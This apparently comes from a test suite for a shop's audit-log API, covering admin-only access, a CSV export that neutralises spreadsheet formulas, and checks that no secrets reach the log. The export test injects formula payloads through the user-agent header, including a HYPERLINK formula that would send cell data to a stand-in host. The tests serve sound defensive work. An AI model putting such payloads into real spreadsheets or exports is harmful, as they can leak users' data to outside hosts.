    expect(await mensaje(`?usuario=${'x'.repeat(101)}`)).toBe(MENSAJES_PAGINACION.busquedaLarga);
    expect((await pedir('GET', '/api/auditoria/exportar?desde=2030-03-02&hasta=2030-03-01')).json().message).toBe(MENSAJES.rangoFechasInvertido);
  });

  it('is for admins only: 401 without a session, 403 for a customer, on the list and the export', async () => {
    for (const url of ['/api/auditoria', '/api/auditoria/exportar']) {
      expect((await t.app.inject({ method: 'GET', url })).statusCode).toBe(401);
      expect((await pedir('GET', url, undefined, cookieCliente)).statusCode).toBe(403);
    }
  });
});

describe('GET /api/auditoria/exportar (CSV)', () => {
  /** Parses the shop's CSV (';', every text quoted, CRLF) back into cells, to check the quoting round-trips. */
  function leerCsv(texto: string): string[][] {
    const filas: string[][] = [];
    let fila: string[] = [];
    let celda = '';
    let comillas = false;
    const cerrarCelda = () => {
      fila.push(celda);
      celda = '';
    };
    for (let i = 0; i < texto.length; i++) {
      const c = texto[i]!;
      if (comillas) {
        if (c === '"' && texto[i + 1] === '"') {
          celda += '"';
          i++;
        } else if (c === '"') comillas = false;
        else celda += c;
      } else if (c === '"') comillas = true;
      else if (c === ';') cerrarCelda();
      else if (c === '\r' && texto[i + 1] === '\n') {
        cerrarCelda();
        filas.push(fila);
        fila = [];
        i++;
      } else celda += c;
    }
    return filas;
  }

  it('UTF-8 with a BOM, a header, quotes doubled, separators and line breaks kept inside, formulas neutralised', async () => {
    const malicioso = '=HYPERLINK("http://malo.example/?x="&A1;"clic")';
    const creado = await t.app.inject({
      method: 'POST',
      url: '/api/categoria',
      payload: { denominacion: 'Lápices; "de colores",\nsurtidos' },
      headers: { cookie: cookieAdmin, 'user-agent': malicioso },
    });
    expect(creado.statusCode).toBe(201);
    for (const [ua, nombre] of [
      ['+SUM(1+1)', 'Cat mas'],
      ['-2+3', 'Cat menos'],
      ['@SUM(A1)', 'Cat arroba'],
    ] as const) {
      expect((await t.app.inject({ method: 'POST', url: '/api/categoria', payload: { denominacion: nombre }, headers: { cookie: cookieAdmin, 'user-agent': ua } })).statusCode).toBe(201);
    }
    const r = await pedir('GET', '/api/auditoria/exportar?accion=categoria.crear&usuario=admin-auditoria');
    expect(r.statusCode).toBe(200);
    expect(r.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(r.headers['content-disposition']).toBe('attachment; filename="auditoria.csv"');
    expect(r.headers['cache-control']).toBe('no-store');
    const bytes = r.rawPayload;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const texto = bytes.subarray(3).toString('utf8');
    const [cabecera, ...filas] = leerCsv(texto);
    expect(cabecera).toEqual(['Fecha', 'Usuario', 'Nro de usuario', 'Acción', 'Entidad', 'Nro', 'Dirección', 'Navegador', 'Cambios', 'Antes', 'Después', 'Detalle']);
    const porNavegador = new Map(filas.map((f) => [f[7], f]));
    const conComillas = porNavegador.get(`'${malicioso}`)!;
    expect(conComillas).toBeDefined();
    expect(conComillas.slice(1, 9)).toEqual(['admin-auditoria', String(admin.id), 'Alta de categoría', 'Categoría', String(creado.json().id), '127.0.0.1', `'${malicioso}`, 'Denominación: Lápices; "de colores",\nsurtidos']);
    expect(JSON.parse(conComillas[10]!)).toEqual({ denominacion: 'Lápices; "de colores",\nsurtidos' });
    expect(conComillas[0]).toMatch(/^\d\d\/\d\d\/\d{4} \d\d:\d\d:\d\d$/);
    expect(porNavegador.get("'+SUM(1+1)")).toBeDefined();
    expect(porNavegador.get("'-2+3")).toBeDefined();
    expect(porNavegador.get("'@SUM(A1)")).toBeDefined();
    // No cell of the file starts like a formula.
    expect(filas.flat().filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
    // The raw text: the quotes doubled inside one quoted field.
    expect(texto).toContain('"Denominación: Lápices; ""de colores"",\nsurtidos"');
  });

  it('streams every matching event, newest first, past one batch, even when they share the same instant', async () => {
    const instante = new Date('2029-07-09T15:00:00.123Z');
    await t.db.insert(auditoria).values(
      Array.from({ length: 1234 }, (_, i) => ({ fecha: instante, usuario: 'lote.csv', usuarioId: 9100, accion: 'producto.editar', entidad: 'producto', entidadId: i + 1 })),
    );
    const r = await pedir('GET', '/api/auditoria/exportar?usuario=lote.csv&desde=2029-07-09&hasta=2029-07-09');
    expect(r.statusCode).toBe(200);
    expect(r.headers['content-disposition']).toBe('attachment; filename="auditoria_desde_2029-07-09_hasta_2029-07-09.csv"');
    const filas = leerCsv(r.rawPayload.subarray(3).toString('utf8')).slice(1);
    expect(filas).toHaveLength(1234);
    // Same instant: newest (highest id) first, each exactly once.
    expect(filas.map((f) => Number(f[5]))).toEqual(Array.from({ length: 1234 }, (_, i) => 1234 - i));
    expect(filas[0]![0]).toBe('09/07/2029 12:00:00');
    // The list agrees.
    expect((await pedir('GET', '/api/auditoria?usuario=lote.csv&porPagina=1')).json().total).toBe(1234);
  });

  it('answers only the header when nothing matches', async () => {
    const r = await pedir('GET', '/api/auditoria/exportar?usuario=nadie-asi');
    expect(r.statusCode).toBe(200);
    expect(leerCsv(r.rawPayload.subarray(3).toString('utf8'))).toHaveLength(1);
  });
});

describe('nothing secret in the trail', () => {
  it('after every scenario above, no row holds a password, a hash, a session token or its hash', async () => {
    const filas = await t.db.select().from(auditoria);
    const acciones = new Set(filas.map((f) => f.accion));
    // The scenarios did run: passwords were set and changed, sessions were open.
    for (const a of ['usuario.crear', 'usuario.cambiar-clave', 'usuario.registrar', 'producto.editar', 'venta.registrar-pago']) expect(acciones).toContain(a);
    const hashes = (await t.db.select({ clave: usuario.clave }).from(usuario)).map((u) => u.clave);
    const sesiones = (await t.db.select({ id: sesion.id }).from(sesion)).map((s) => s.id);
    expect(hashes.length).toBeGreaterThan(3);
    expect(sesiones.length).toBeGreaterThan(1);
    const prohibidos = [
      ...secretos,
      ...hashes,
      ...sesiones,
      ...secretos.map((s) => createHash('sha256').update(s).digest('hex')),
      t.app.mercadoPago.secretoWebhook,
    ];
    expect(prohibidos.length).toBeGreaterThan(15);
    for (const fila of filas) {
      const texto = JSON.stringify(fila);
      for (const p of prohibidos) expect(texto, `evento ${fila.id} (${fila.accion})`).not.toContain(p);
      expect(texto).not.toMatch(/\$argon2|"clave"|"claveActual"|"password"|"token"/i);
    }
  });
});
